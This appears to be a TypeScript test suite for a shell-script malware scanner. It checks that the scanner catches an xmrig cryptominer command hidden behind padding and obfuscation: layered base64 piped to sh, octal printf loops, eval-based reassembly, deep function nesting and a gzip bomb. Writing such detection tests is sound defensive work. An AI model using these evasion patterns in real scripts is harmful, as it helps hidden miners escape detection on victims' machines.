// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell texts are full of them.
/**
 * Padding: a miner behind more than the scanner reads. Its author chose every byte, so a limit that
 * he reaches must never look like a definition that is merely hard to read.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import {
  scanFileBytesMax,
  scanWorkMax,
  shellBraceWordsMax,
  shellCallsMax,
  shellCommandsMax,
  shellDecodedLengthMax,
  shellDepthMax,
  shellFunctionCallsMax,
  shellLayersMax,
  shellRoundsMax,
} from '../base/limits.ts';
import { isGivenUp } from '../model/finding.ts';
import { scanScript } from './test-scanner.ts';
import { testAddress } from './wallet/test-addresses.ts';

const PAYOUT = testAddress('monero', 11);
const MINER = `./xmrig -o stratum+tcp://pool.example.org:3333 -u ${PAYOUT} -p x`;

function base64(text: string): string {
  return Buffer.from(text).toString('base64');
}

function encoded(layers: number): string {
  let text = MINER;
  for (let i = 0; i < layers; i++) text = `echo ${base64(text)} | base64 -d | sh`;
  return text;
}

function called(depth: number): string {
  const rest = Array.from({ length: depth - 1 }, (_, i) => `f${i + 1}() { f${i}; }\n`).join('');
  return `f0() { ${MINER}; }\n${rest}f${depth - 1}`;
}

function octal(letter: string): string {
  return letter.charCodeAt(0).toString(8).padStart(3, '0');
}

function numbered(count: number, before: string, after: string): string {
  return Array.from({ length: count }, (_, i) => `${before}${i}${after}`).join('');
}

function nested(open: string, close: string): string {
  return open.repeat(shellDepthMax + 1) + MINER + close.repeat(shellDepthMax + 1);
}

const TEXT = `${' '.repeat(shellRoundsMax)}${MINER}`;
const A = `A='${TEXT}'\n`;
const NAMES = numbered(300, 'a', ' ');
const CODES = [...`#${TEXT.replace('./', '\n./')}`].map(octal).join(' ');
const CALLS = numbered(shellFunctionCallsMax, 'f ', '\n');
const LINES = numbered(shellRoundsMax, 'w', '\n');
const LONG = `A='${'a '.repeat(shellDecodedLengthMax / 4)}'\n`;
const bomb = gzipSync(Buffer.from(`${' '.repeat(shellDecodedLengthMax)}\n${MINER}`));

const PADDED: Readonly<Record<string, string>> = {
  'empty commands': `${':\n'.repeat(shellCommandsMax)}${MINER}`,
  'empty commands on a line': `${':;'.repeat(shellCommandsMax)}${MINER}`,
  'commands that differ': `${numbered(shellCommandsMax, 'a ', '\n')}${MINER}`,
  'layers of encoding': encoded(shellLayersMax + 1),
  'functions that call one another': called(shellCallsMax + 1),
  'calls of functions': `f() { a; }\n${CALLS}g() { ${MINER}; }\ng`,
  'nested substitutions': nested('$(', ')'),
  'nested groups': nested('( ', ' )'),
  'rounds of a loop': `for i in ${numbered(shellRoundsMax, 'w', ' ')} "${MINER}"; do $i; done`,
  'rounds of a loop, counted': `for i in $(seq 1 ${shellRoundsMax}) "${MINER}"; do $i; done`,
  'rounds of a loop over codes': `for c in ${CODES}; do printf "\\\\$c"; done | sh`,
  'rounds that count through a text': `A='${TEXT}'\nfor i in $(seq 0 999); do printf %s "\${A:i:1}"; done | sh`,
  'rounds that count in braces': `${A}for i in {0..999}; do printf %s "\${A:i:1}"; done | sh`,
  'rounds that write': `A='${TEXT}'\nfor i in $(seq 0 999); do printf %s "\${A:i:1}" >> f; done; sh f`,
  'rounds that keep': `A='${TEXT}'\nfor i in $(seq 0 999); do B=$B\${A:i:1}; done; eval "$B"`,
  'rounds that choose': `A=(${NAMES} '${MINER}')\nfor i in $(seq 1 300); do \${A[$i]}; done`,
  'lines that a loop reads': `while read l; do $l; done <<E\n${LINES}${MINER}\nE`,
  'words in braces': `{${MINER.replaceAll(' ', ',')}${numbered(shellBraceWordsMax, ',w', '')}}`,
  'text in layers': `${LONG}${'eval ": $A"\n'.repeat(3)}eval "${MINER}"`,
  'a bomb': `echo ${bomb.toString('base64')} | base64 -d | gunzip | sh`,
  'a text that doubles': `A=' '\n${'A=$A$A\n'.repeat(40)}eval "$A${MINER}"`,
  'a text that is printed': `x=$(printf '%${shellDecodedLengthMax}s' a)\neval "$x; ${MINER}"`,
  'a long script': `${`: ${'a'.repeat(1_000)}\n`.repeat(scanFileBytesMax / 1_000)}${MINER}`,
  work: `${'a=$(echo b);'.repeat(scanWorkMax / 400)}\n${MINER}`,
};

for (const [name, script] of Object.entries(PADDED)) {
  test(`a miner behind ${name}`, () => {
    const { verdict, unchecked } = scanScript(script);
    const isFound = verdict === 'confirmed' || verdict === 'suspected';
    assert.ok(isFound || unchecked.some(isGivenUp), `${verdict}: ${unchecked.join('; ')}`);
  });
}
